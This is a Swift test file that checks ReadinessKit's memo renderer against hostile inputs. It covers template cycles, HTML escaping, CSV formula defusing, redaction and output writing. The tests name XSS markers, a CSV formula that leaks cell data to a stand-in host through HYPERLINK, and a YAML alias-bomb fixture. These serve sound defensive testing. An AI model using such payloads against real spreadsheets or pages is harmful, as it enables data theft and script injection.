import Foundation
import Testing
@testable import ReadinessKit

/// The memo (`readiness check --format text|html|markdown|json|csv`) of hostile bundles and with
/// hostile templates: values are escaped or defused in every format, never evaluated; a template
/// that includes itself is refused instead of overflowing the stack; `--output` is written whole
/// or not at all, and nothing else is written; `--redact` leaves no identifying value behind.
@Suite("Hostile memos, templates and outputs") struct MemoHostileTests {
    static let asOf = Day(year: 2026, month: 6, day: 1) ?? Day(daysSinceEpoch: 0)

    /// The echo pack's report on a hostile fixture.
    func report(_ fixture: String) throws -> (Report, CaseBundle) {
        let bundle = try BundleLoader().load(Hostile.fixture(fixture)).bundle
        let packs = try RulePackLoader().load([Hostile.fixture("rules/echo.yaml")])
        return (try CaseChecker(checklist: try ChecklistCompiler.compile(packs)).check(bundle, options: .init(asOf: Self.asOf)), bundle)
    }

    /// A copy of the default templates, in a temporary folder.
    func templatesCopy() throws -> String {
        let folder = try Hostile.temporaryFolder("templates") + "/templates"
        try FileManager.default.copyItem(atPath: Repository.path("templates"), toPath: folder)
        return folder
    }

    func render(_ report: Report, _ format: MemoFormat, templates: String? = nil) throws -> String {
        let directory = format.templateKind == nil ? nil : (templates ?? Repository.path("templates"))
        return try MemoRenderer.render(report, as: format, templateDirectory: directory)
    }

    @Test("a template that includes itself is refused with a located error instead of overflowing the stack (was a crash)",
          arguments: ["text/footer.mustache", "html/footer.mustache"])
    func selfIncludingTemplate(_ file: String) throws {
        let templates = try templatesCopy()
        let name = (file as NSString).lastPathComponent.replacingOccurrences(of: ".mustache", with: "")
        let handle = try #require(FileHandle(forWritingAtPath: templates + "/" + file))
        try handle.seekToEnd()
        try handle.write(contentsOf: Data("{{> \(name)}}\n".utf8))
        try handle.close()
        let (report, _) = try report("template-syntax-in-values")
        let format: MemoFormat = file.hasPrefix("html") ? .html : .text
        let outcome = Hostile.bounded("rendering with a self-including partial") { () -> [Diagnostic] in
            do throws(DiagnosticError) {
                _ = try MemoRenderer.render(report, as: format, templateDirectory: templates)
                return []
            } catch {
                return error.diagnostics
            }
        }
        let diagnostics = try #require(outcome)
        #expect(diagnostics.map(\.id).contains("template.partial-cycle"), "\(diagnostics.map(\.description))")
        #expect(diagnostics.first { $0.id == "template.partial-cycle" }?.location?.file.hasSuffix(file) == true)
    }

    @Test("a cycle through two partials is refused the same way")
    func twoPartialCycle() throws {
        let templates = try templatesCopy()
        try Hostile.write("{{% CONTENT_TYPE: TEXT}}\n{{> ping}}\n", to: templates + "/text/pong.mustache")
        try Hostile.write("{{% CONTENT_TYPE: TEXT}}\n{{> pong}}\n", to: templates + "/text/ping.mustache")
        let footer = try String(contentsOfFile: templates + "/text/footer.mustache", encoding: .utf8)
        try (footer + "{{> ping}}\n").write(toFile: templates + "/text/footer.mustache", atomically: true, encoding: .utf8)
        let (report, _) = try report("template-syntax-in-values")
        do throws(DiagnosticError) {
            _ = try MemoRenderer.render(report, as: .text, templateDirectory: templates)
            Issue.record("a partial cycle must be refused")
        } catch {
            #expect(error.diagnostics.contains { $0.id == "template.partial-cycle" })
        }
    }

    /// The policy every HTML document carries at the top of its head: no scripts, plugins, frames,
    /// fonts, images or network loads, whatever the data or an edited template holds; inline styles only.
    static let contentSecurityPolicy = #"<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">"#

    @Test("the HTML memo and the HTML docket carry the Content-Security-Policy before any value from a bundle")
    func htmlDocumentsCarryAContentSecurityPolicy() throws {
        let (report, _) = try report("html-everywhere")
        let docket = DocketRenderer.html(Docket(asOf: "2026-06-01", rows: [Docket.row(bundle: "html-everywhere", report: report)]))
        for (name, html) in [("memo", try render(report, .html)), ("docket", docket)] {
            let policy = try #require(html.range(of: Self.contentSecurityPolicy), "the \(name) has no Content-Security-Policy")
            let title = try #require(html.range(of: "<title>"), "the \(name) has no title")
            #expect(policy.upperBound < title.lowerBound, "the \(name)'s policy must come before its first value")
        }
    }

    @Test("template syntax in bundle values is printed literally in every memo format, never rendered")
    func valuesAreNeverTemplates() throws {
        let (report, _) = try report("template-syntax-in-values")
        // Markdown escapes its own specials ('#', '<', '>'), which a reader sees as the same text.
        let literal: [MemoFormat: String] = [.text: "{{#case}}{{{caption}}}{{/case}} {{> memo}} {{=<% %>=}}<%caption%>",
                                             .json: "{{#case}}{{{caption}}}{{/case}} {{> memo}} {{=<% %>=}}<%caption%>",
                                             .markdown: "{{\\#case}}{{{caption}}}{{/case}} {{\\> memo}} {{=\\<% %\\>=}}\\<%caption%\\>"]
        for (format, expected) in literal {
            #expect(try render(report, format).contains(expected), "\(format): the caption's template syntax is not shown literally")
        }
        let html = try render(report, .html)
        #expect(html.contains("{{#case}}{{{caption}}}{{/case}}"))
    }

    @Test("the HTML memo of the html-everywhere bundle escapes every value: no element or handler from the data survives")
    func htmlMemoEscapes() throws {
        let (report, _) = try report("html-everywhere")
        let html = try render(report, .html)
        for raw in ["<script", "<img", "<svg", "<iframe", "<link rel=\"stylesheet\" href=\"http", "onerror=\"", "onload=\""] {
            #expect(!html.contains(raw), "'\(raw)' reached the HTML memo unescaped")
        }
        #expect(html.contains("&lt;script&gt;"))
        #expect(!html.contains("http://leak.example.invalid/x.css\">"), "no attribute value from the data")
    }

    @Test("every action-list CSV cell a spreadsheet would run as a formula is defused, and the CSV reads back strictly",
          arguments: ["csv-formulas", "html-everywhere"])
    func actionListDefusesFormulas(_ fixture: String) throws {
        let (report, _) = try report(fixture)
        let csv = try render(report, .csv)
        var cells: [String] = []
        try CSVReader(file: "actions.csv", data: Data(csv.utf8)).forEachRow { row in cells += row.fields }
        #expect(cells.count > 9)
        let live = cells.filter { cell in
            guard let first = cell.unicodeScalars.first else { return false }
            return ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"].contains(first)
        }
        #expect(live.isEmpty, "live formulas: \(live.prefix(5))")
        if fixture == "csv-formulas" {
            #expect(cells.contains("'=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"), "the echoed formula is present, defused")
        }
    }

    @Test("full-width formula starters are defused too, and nothing else is")
    func fullWidthFormulaStarters() {
        for text in ["＝1+1", "＋1", "－1", "＠SUM(A1)"] { #expect(ActionListCSV.cell(text) == "'" + text) }
        for text in ["1＝1", "'＝1", "E-1", "\u{200B}=1"] { #expect(ActionListCSV.cell(text) == text) }
    }

    @Test("--redact leaves no victim or suspect name from the html-everywhere bundle in any format")
    func redactionCoversEveryFormat() throws {
        let (report, bundle) = try report("html-everywhere")
        let redacted = Redactor(bundle: bundle).redact(report)
        let markers = ["victims[0].name", "suspects[0].name", "suspects[0].address", "suspects[0].emails[0]"]
        for format in MemoFormat.allCases {
            let memo = try render(redacted, format)
            for marker in markers {
                let survives = memo.contains(marker + " <script") || memo.contains(marker + " &lt;script")
                #expect(!survives, "\(format): '\(marker)' survives --redact")
            }
        }
    }

    @Test("check --output on an invalid bundle exits 2 and creates no file; on an unwritable path, no partial file",
          .enabled(if: CLIRunner.isAvailable))
    func outputIsWholeOrNothing() throws {
        let directory = try Hostile.temporaryFolder("cli-output")
        let invalid = try CLIRunner.run(["check", Hostile.fixture("yaml-alias-bomb"), "--rules", Hostile.fixture("rules/echo.yaml"),
                                         "--output", "memo.html"], in: directory)
        #expect(invalid.status == 2)
        #expect(Hostile.listing(directory).isEmpty, "nothing may be written for an invalid bundle")
        let missingFolder = try CLIRunner.run(["check", Hostile.fixture("control-chars"), "--rules", Hostile.fixture("rules/echo.yaml"),
                                               "--as-of", "2026-06-01", "--output", "no/such/folder/memo.html"], in: directory)
        #expect(missingFolder.status != 0)
        #expect(Hostile.listing(directory).isEmpty)
    }

    @Test("check --output writes exactly the requested file, replacing an earlier one whole, and nothing else",
          .enabled(if: CLIRunner.isAvailable))
    func outputWritesOnlyTheRequestedFile() throws {
        let directory = try Hostile.temporaryFolder("cli-output")
        let bundle = try Hostile.copy("html-everywhere")
        let before = Hostile.listing(bundle)
        try Hostile.write("an earlier memo", to: directory + "/memo.html")
        for format in ["html", "csv", "json", "markdown", "text"] {
            let result = try CLIRunner.run(["check", bundle, "--rules", Hostile.fixture("rules/echo.yaml"), "--as-of", "2026-06-01",
                                            "--format", format, "--output", "memo.html"], in: directory)
            #expect(result.status == 0, "\(format): \(result.stderr.prefix(300))")
            #expect(Array(Hostile.listing(directory).keys) == ["memo.html"], "\(format): \(Hostile.listing(directory).keys.sorted())")
        }
        #expect(Hostile.listing(bundle) == before, "the bundle folder changed")
        let memo = try String(contentsOfFile: directory + "/memo.html", encoding: .utf8)
        #expect(!memo.contains("an earlier memo"))
    }

    @Test("'readiness check --template-dir' with a self-including partial exits 2, no crash (was a segmentation fault)",
          .enabled(if: CLIRunner.isAvailable))
    func cliRefusesSelfIncludingTemplate() throws {
        let templates = try templatesCopy()
        let handle = try #require(FileHandle(forWritingAtPath: templates + "/text/footer.mustache"))
        try handle.seekToEnd()
        try handle.write(contentsOf: Data("{{> footer}}\n".utf8))
        try handle.close()
        let result = try CLIRunner.run(["check", Hostile.fixture("control-chars"), "--rules", Hostile.fixture("rules/echo.yaml"),
                                        "--as-of", "2026-06-01", "--template-dir", templates], in: try Hostile.temporaryFolder("cli"))
        #expect(result.status == 2, "\(result.stderr.prefix(400))")
        #expect(result.stderr.contains("footer.mustache:"))
        #expect(result.stderr.contains("[template.partial-cycle]"))
    }
}
